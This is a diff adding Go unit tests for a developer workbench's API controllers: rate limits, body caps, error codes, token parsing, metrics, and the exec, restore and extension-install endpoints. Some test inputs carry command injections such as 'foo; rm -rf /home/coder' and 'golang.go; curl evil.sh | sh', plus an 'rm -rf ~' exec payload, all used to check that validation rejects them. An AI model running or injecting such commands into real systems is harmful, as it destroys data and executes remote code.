@@ -0,0 +1,419 @@
+package controllers
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+	"workbench/internal"
+
+	"github.com/The-Skyscape/devtools/pkg/testutils"
+)
+
+// adminKey stands in for AuthController.apiKey with a signed-in admin.
+func adminKey(*http.Request) string { return "user:admin" }
+
+// fakeAPILimits replaces the API limiter and body cap for a test.
+func fakeAPILimits(t *testing.T, limits internal.APILimits, maxBody int64) {
+	originalLimiter, originalMaxBody := apiLimiter, apiMaxBody
+	apiLimiter = internal.NewAPILimiter(func(string) internal.APILimits { return limits })
+	apiMaxBody = func() int64 { return maxBody }
+	t.Cleanup(func() { apiLimiter, apiMaxBody = originalLimiter, originalMaxBody })
+}
+
+func TestAPILimitReturns429WithRetryAfter(t *testing.T) {
+	fakeAPILimits(t, internal.APILimits{PerMinute: 2, Burst: 1}, 1024)
+	handler := apiLimit(adminKey, internal.APIWrite, func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(http.StatusNoContent)
+	})
+
+	req := httptest.NewRequest("POST", "/api/repos", nil)
+	req.Header.Set("Authorization", "Bearer abcdefghijklmnop")
+
+	w := httptest.NewRecorder()
+	handler(w, req)
+	testutils.AssertEqual(t, http.StatusNoContent, w.Code)
+
+	w = httptest.NewRecorder()
+	handler(w, req)
+	testutils.AssertEqual(t, http.StatusTooManyRequests, w.Code)
+	testutils.AssertEqual(t, "30", w.Header().Get("Retry-After"))
+	testutils.AssertEqual(t, "application/json", w.Header().Get("Content-Type"))
+	testutils.AssertEqual(t, true, strings.Contains(w.Body.String(), `"error":"rate_limited"`))
+}
+
+func TestAPILimitRejectsOversizedBody(t *testing.T) {
+	fakeAPILimits(t, internal.APILimits{PerMinute: 60, Burst: 10}, 16)
+	handler := apiLimit(adminKey, internal.APIWrite, func(w http.ResponseWriter, r *http.Request) {
+		var body map[string]string
+		if decodeJSON(w, r, &body) {
+			w.WriteHeader(http.StatusNoContent)
+		}
+	})
+
+	testCases := []struct {
+		name     string
+		body     string
+		chunked  bool
+		expected int
+	}{
+		{"small body", `{"a":"b"}`, false, http.StatusNoContent},
+		{"declared length too large", `{"name":"a very long value"}`, false, http.StatusRequestEntityTooLarge},
+		{"streamed body too large", `{"name":"a very long value"}`, true, http.StatusRequestEntityTooLarge},
+		{"invalid json", `{`, false, http.StatusBadRequest},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			req := httptest.NewRequest("POST", "/api/repos", strings.NewReader(tc.body))
+			if tc.chunked {
+				req.ContentLength = -1
+			}
+			w := httptest.NewRecorder()
+			handler(w, req)
+			testutils.AssertEqual(t, tc.expected, w.Code)
+			if tc.expected == http.StatusRequestEntityTooLarge {
+				testutils.AssertEqual(t, true, strings.Contains(w.Body.String(), `"error":"body_too_large"`))
+			}
+		})
+	}
+}
+
+func TestAPILimitKeysOnCaller(t *testing.T) {
+	fakeAPILimits(t, internal.APILimits{PerMinute: 1, Burst: 1}, 1024)
+	handler := apiLimit(adminKey, internal.APIRead, func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(http.StatusNoContent)
+	})
+
+	// Varying the bearer token doesn't get a fresh bucket
+	for i, token := range []string{"aaaaaaaa-1", "bbbbbbbb-2"} {
+		req := httptest.NewRequest("GET", "/api/metrics/history", nil)
+		req.Header.Set("Authorization", "Bearer "+token)
+		w := httptest.NewRecorder()
+		handler(w, req)
+		testutils.AssertEqual(t, []int{http.StatusNoContent, http.StatusTooManyRequests}[i], w.Code)
+	}
+}
+
+func TestWriteRepoAPIError(t *testing.T) {
+	testCases := []struct {
+		name   string
+		err    error
+		status int
+		code   string
+	}{
+		{"unknown repository", fmt.Errorf("pull: %w", internal.ErrRepoNotFound), http.StatusNotFound, "not_found"},
+		{"duplicate name", fmt.Errorf("clone: %w", internal.ErrRepoExists), http.StatusConflict, "already_exists"},
+		{"malicious name", internal.ValidateRepoName("foo; rm -rf /home/coder"), http.StatusBadRequest, "invalid_input"},
+		{"missing directory", &internal.MissingRepoError{Repo: "api", Prompt: true}, http.StatusConflict, "repo_missing"},
+		{"coder down", internal.ErrCoderNotRunning, http.StatusServiceUnavailable, "coder_not_running"},
+		{"disk full", fmt.Errorf("clone: %w", internal.ErrNoSpace), http.StatusInsufficientStorage, "insufficient_storage"},
+		{"other failure", errors.New("merge conflicts detected"), http.StatusUnprocessableEntity, "operation_failed"},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			w := httptest.NewRecorder()
+			writeRepoAPIError(w, tc.err)
+			testutils.AssertEqual(t, tc.status, w.Code)
+			testutils.AssertEqual(t, "application/json", w.Header().Get("Content-Type"))
+			testutils.AssertEqual(t, true, strings.Contains(w.Body.String(), `"error":"`+tc.code+`"`))
+		})
+	}
+}
+
+func TestBearerToken(t *testing.T) {
+	testCases := []struct {
+		header string
+		token  string
+		found  bool
+	}{
+		{"Bearer wb_abc", "wb_abc", true},
+		{"bearer wb_abc", "wb_abc", true},
+		{"Basic dXNlcjpwYXNz", "", false},
+		{"", "", false},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.header, func(t *testing.T) {
+			req := httptest.NewRequest("GET", "/api/v1/repos", nil)
+			req.Header.Set("Authorization", tc.header)
+			token, found := bearerToken(req)
+			testutils.AssertEqual(t, tc.token, token)
+			testutils.AssertEqual(t, tc.found, found)
+		})
+	}
+}
+
+func TestMetricsHistoryRange(t *testing.T) {
+	original := metricsRange
+	metricsRange = func(name string, step time.Duration, now time.Time) ([]internal.MetricPoint, time.Duration, error) {
+		if name != "24h" {
+			return nil, 0, &internal.InvalidMetricRangeError{Reason: "range must be 1h, 24h, or 7d"}
+		}
+		if step == 0 {
+			step = 10 * time.Minute
+		}
+		return []internal.MetricPoint{{CPU: 12.5}}, step, nil
+	}
+	t.Cleanup(func() { metricsRange = original })
+
+	testCases := []struct {
+		query  string
+		status int
+		body   string
+	}{
+		{"range=24h", http.StatusOK, `"step_seconds":600`},
+		{"range=24h&step=30m", http.StatusOK, `"step_seconds":1800`},
+		{"range=24h&step=soon", http.StatusBadRequest, `"error":"invalid_step"`},
+		{"range=30d", http.StatusBadRequest, `"error":"invalid_range"`},
+	}
+
+	c := &MonitoringController{}
+	for _, tc := range testCases {
+		t.Run(tc.query, func(t *testing.T) {
+			w := httptest.NewRecorder()
+			c.metricsHistory(w, httptest.NewRequest("GET", "/api/metrics/history?"+tc.query, nil))
+			testutils.AssertEqual(t, tc.status, w.Code)
+			testutils.AssertEqual(t, true, strings.Contains(w.Body.String(), tc.body))
+		})
+	}
+}
+
+func TestExecCommandRejectsEmptyCommand(t *testing.T) {
+	c := &WorkbenchController{}
+	req := httptest.NewRequest("POST", "/api/exec", strings.NewReader(`{"command":" ","timeout_seconds":5}`))
+	req.Header.Set("Content-Type", "application/json")
+	w := httptest.NewRecorder()
+	c.execCommand(w, req)
+
+	testutils.AssertEqual(t, http.StatusBadRequest, w.Code)
+	testutils.AssertEqual(t, "", w.Header().Get("Trailer"))
+	testutils.AssertEqual(t, true, strings.Contains(w.Body.String(), `"error":"invalid_request"`))
+}
+
+func TestExecCommandRequiresJSONContentType(t *testing.T) {
+	c := &WorkbenchController{}
+	// What a cross-site form with enctype="text/plain" can send
+	req := httptest.NewRequest("POST", "/api/exec", strings.NewReader(`{"command":"rm -rf ~","x":"="}`))
+	req.Header.Set("Content-Type", "text/plain")
+	w := httptest.NewRecorder()
+	c.execCommand(w, req)
+
+	testutils.AssertEqual(t, http.StatusUnsupportedMediaType, w.Code)
+}
+
+func TestRepoFileContentType(t *testing.T) {
+	testCases := []struct {
+		path     string
+		content  string
+		binary   bool
+		expected string
+	}{
+		{"main.go", "package main", false, "text/plain; charset=utf-8"},
+		{"index.html", "<script>alert(1)</script>", false, "text/plain; charset=utf-8"},
+		{"package.json", "{}", false, "application/json"},
+		{"logo.png", "\x89PNG\r\n\x1a\n\x00", true, "image/png"},
+		{"icon.svg", "<svg>\x00</svg>", true, "application/octet-stream"},
+		{"page.html", "<html>\xff\x00", true, "application/octet-stream"},
+		{"data.bin", "\x00\x01\x02", true, "application/octet-stream"},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.path, func(t *testing.T) {
+			file := &internal.RepoFile{Path: tc.path, Content: []byte(tc.content), Binary: tc.binary}
+			testutils.AssertEqual(t, tc.expected, repoFileContentType(file))
+		})
+	}
+}
+
+func TestReadRepoFileAPIRecordsAccess(t *testing.T) {
+	savedRead, savedRecord, savedCheck := readRepoFile, recordAccess, checkAPIToken
+	t.Cleanup(func() { readRepoFile, recordAccess, checkAPIToken = savedRead, savedRecord, savedCheck })
+	readRepoFile = func(name, path string, maxBytes int64) (*internal.RepoFile, error) {
+		return &internal.RepoFile{Path: path, Content: []byte("package main\n")}, nil
+	}
+	checkAPIToken = func(token string) bool { return token == "wb_test" }
+	var records []string
+	recordAccess = func(routeType, repository, path string, bytes uint64, requester, requesterType, clientIP string) {
+		records = append(records, fmt.Sprintf("%s %s %s %d %s %s %s", routeType, repository, path, bytes, requester, requesterType, clientIP))
+	}
+
+	req := httptest.NewRequest(http.MethodGet, "/api/v1/repos/api/file?path=main.go", nil)
+	req.SetPathValue("name", "api")
+	req.Header.Set("Authorization", "Bearer wb_test")
+	req.RemoteAddr = "203.0.113.7:51000"
+	w := httptest.NewRecorder()
+	(&WorkbenchController{}).readRepoFileAPI(w, req)
+
+	testutils.AssertEqual(t, http.StatusOK, w.Code)
+	testutils.AssertEqual(t, "file api main.go 13 api-token token 203.0.113.7", strings.Join(records, "; "))
+}
+
+func TestWriteRepoFileAPIError(t *testing.T) {
+	testCases := []struct {
+		name   string
+		err    error
+		status int
+		code   string
+	}{
+		{"escaping path", internal.ErrInvalidRepoPath, http.StatusBadRequest, "invalid_path"},
+		{"missing path", internal.ErrRepoPathNotFound, http.StatusNotFound, "not_found"},
+		{"large file", &internal.FileTooLargeError{Size: 3 << 20, Limit: 2 << 20}, http.StatusRequestEntityTooLarge, "file_too_large"},
+		{"binary blame", internal.ErrBlameBinary, http.StatusUnprocessableEntity, "blame_not_available"},
+		{"other", errors.New("failed to list files"), http.StatusUnprocessableEntity, "operation_failed"},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			w := httptest.NewRecorder()
+			writeRepoFileAPIError(w, tc.err)
+			testutils.AssertEqual(t, tc.status, w.Code)
+			testutils.AssertEqual(t, true, strings.Contains(w.Body.String(), fmt.Sprintf(`"error":%q`, tc.code)))
+		})
+	}
+}
+
+func TestLineRange(t *testing.T) {
+	start, end, err := lineRange("5", "")
+	testutils.AssertEqual(t, nil, err)
+	testutils.AssertEqual(t, 5, start)
+	testutils.AssertEqual(t, 0, end)
+
+	_, _, err = lineRange("", "ten")
+	testutils.AssertEqual(t, true, err != nil)
+	_, _, err = lineRange("0", "3")
+	testutils.AssertEqual(t, true, err != nil)
+}
+
+func TestRestoreBackupRefusesBadRequests(t *testing.T) {
+	testCases := []struct {
+		name        string
+		contentType string
+		status      int
+		code        string
+	}{
+		{"cross-site form", "text/plain", http.StatusUnsupportedMediaType, "unsupported_media_type"},
+		{"not an archive", "application/gzip", http.StatusBadRequest, "invalid_backup"},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			c := &WorkbenchController{}
+			req := httptest.NewRequest("POST", "/api/restore", strings.NewReader("not a backup"))
+			req.Header.Set("Content-Type", tc.contentType)
+			w := httptest.NewRecorder()
+			c.restoreBackup(w, req)
+
+			testutils.AssertEqual(t, tc.status, w.Code)
+			testutils.AssertEqual(t, true, strings.Contains(w.Body.String(), `"error":"`+tc.code+`"`))
+		})
+	}
+}
+
+func TestRestoreSummary(t *testing.T) {
+	summary := restoreSummary([]*internal.TemplateChange{
+		{Kind: "repository", Item: "api", Action: internal.ChangeAdd},
+		{Kind: "repository", Item: "web", Action: internal.ChangeSkip, Note: "already cloned"},
+		{Kind: "ssh key", Item: "work", Action: internal.ChangeAdd, Error: "not a valid private key"},
+	})
+
+	testutils.AssertEqual(t, 1, summary["restored"])
+	testutils.AssertEqual(t, 1, summary["skipped"])
+	testutils.AssertEqual(t, 1, summary["failed"])
+	var statuses []string
+	for _, item := range summary["items"].([]restoreItem) {
+		statuses = append(statuses, item.Item+":"+item.Status)
+	}
+	testutils.AssertEqual(t, "api:restored,web:skipped,work:failed", strings.Join(statuses, ","))
+}
+
+func TestInstallExtensionAPIRefusesBadRequests(t *testing.T) {
+	testCases := []struct {
+		name        string
+		contentType string
+		body        string
+		status      int
+	}{
+		{"cross-site form", "text/plain", `{"id":"evil.extension"}`, http.StatusUnsupportedMediaType},
+		{"invalid ID", "application/json", `{"id":"golang.go; curl evil.sh | sh"}`, http.StatusBadRequest},
+		{"missing ID", "application/json", `{}`, http.StatusBadRequest},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			c := &WorkbenchController{}
+			req := httptest.NewRequest("POST", "/api/coder/extensions", strings.NewReader(tc.body))
+			req.Header.Set("Content-Type", tc.contentType)
+			w := httptest.NewRecorder()
+			c.installExtensionAPI(w, req)
+
+			testutils.AssertEqual(t, tc.status, w.Code)
+		})
+	}
+}
+
+func TestPrometheusMetricsRequiresToken(t *testing.T) {
+	original := checkMetricsToken
+	var got string
+	checkMetricsToken = func(token string) bool { got = token; return false }
+	t.Cleanup(func() { checkMetricsToken = original })
+
+	r := httptest.NewRequest("GET", "/metrics", nil)
+	r.Header.Set("Authorization", "Bearer wrong")
+	w := httptest.NewRecorder()
+	(&MonitoringController{}).prometheusMetrics(w, r)
+
+	testutils.AssertEqual(t, http.StatusUnauthorized, w.Code)
+	testutils.AssertEqual(t, "wrong", got)
+	testutils.AssertEqual(t, `Bearer realm="metrics"`, w.Header().Get("WWW-Authenticate"))
+}
+
+func TestReadinessCheckStatus(t *testing.T) {
+	original := checkReadiness
+	t.Cleanup(func() { checkReadiness = original })
+
+	for _, ready := range []bool{true, false} {
+		checkReadiness = func() internal.Readiness {
+			return internal.Readiness{Ready: ready, Checks: []internal.HealthCheckResult{{Name: "coder", OK: ready, Required: true}}}
+		}
+		w := httptest.NewRecorder()
+		(&MonitoringController{}).readinessCheck(w, httptest.NewRequest("GET", "/health/ready", nil))
+
+		want := http.StatusOK
+		if !ready {
+			want = http.StatusServiceUnavailable
+		}
+		testutils.AssertEqual(t, want, w.Code)
+
+		var report internal.Readiness
+		if err := json.NewDecoder(w.Body).Decode(&report); err != nil {
+			t.Fatal(err)
+		}
+		testutils.AssertEqual(t, ready, report.Ready)
+		testutils.AssertEqual(t, 1, len(report.Checks))
+		testutils.AssertEqual(t, "coder", report.Checks[0].Name)
+	}
+}
+
+func TestHealthCheckReportsVersion(t *testing.T) {
+	w := httptest.NewRecorder()
+	(&MonitoringController{}).healthCheck(w, httptest.NewRequest("GET", "/health", nil))
+
+	testutils.AssertEqual(t, http.StatusOK, w.Code)
+	var body struct {
+		Status        string `json:"status"`
+		Version       string `json:"version"`
+		UptimeSeconds *int64 `json:"uptime_seconds"`
+	}
+	if err := json.NewDecoder(w.Body).Decode(&body); err != nil {
+		t.Fatal(err)
+	}
+	testutils.AssertEqual(t, "online", body.Status)
+	testutils.AssertEqual(t, internal.Version, body.Version)
+	testutils.AssertEqual(t, true, body.UptimeSeconds != nil)
+}